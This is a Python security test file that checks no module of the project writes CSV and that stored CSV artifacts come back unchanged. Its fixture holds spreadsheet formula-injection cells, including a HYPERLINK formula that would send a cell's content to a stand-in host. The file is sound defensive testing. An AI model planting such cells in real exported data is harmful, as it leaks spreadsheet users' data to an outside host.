"""Cells that a spreadsheet would run: nothing here writes spreadsheets, so nothing can slip in."""

from pathlib import Path

from journal import Journal
from journal.artifacts.store import ArtifactFormat
from tests.rules.sources import Module, imported_modules, modules, parse

CSV = 'name,note\r\n"=HYPERLINK(""http://host/?""&A1)",@SUM(1)\r\n+1,-2\r\n\t=3,\r=4\r\n'


def writes_csv(module: Module) -> bool:
    """Whether a module has the means to write CSV."""
    return any(name.split(".")[0] == "csv" for _, name in imported_modules(module))


def test_nothing_of_ours_writes_csv() -> None:
    """Security, csv: whoever adds an export has to escape what begins with = + - @, tab, return."""
    assert [each.path for each in modules("journal", "projections") if writes_csv(each)] == []
    assert writes_csv(parse("journal/export.py", "def export():\n    from csv import writer\n"))


async def test_csv_of_the_callers_own_is_kept_as_it_is(tmp_path: Path) -> None:
    """Security, csv: an artifact is what was stored, byte for byte; its content is its maker's."""
    async with Journal.open(tmp_path / "store") as journal, journal.run(project="nightly") as run:
        told = await run.store(CSV, format=ArtifactFormat.CSV, description="a table")
        assert await journal.load(told) == CSV
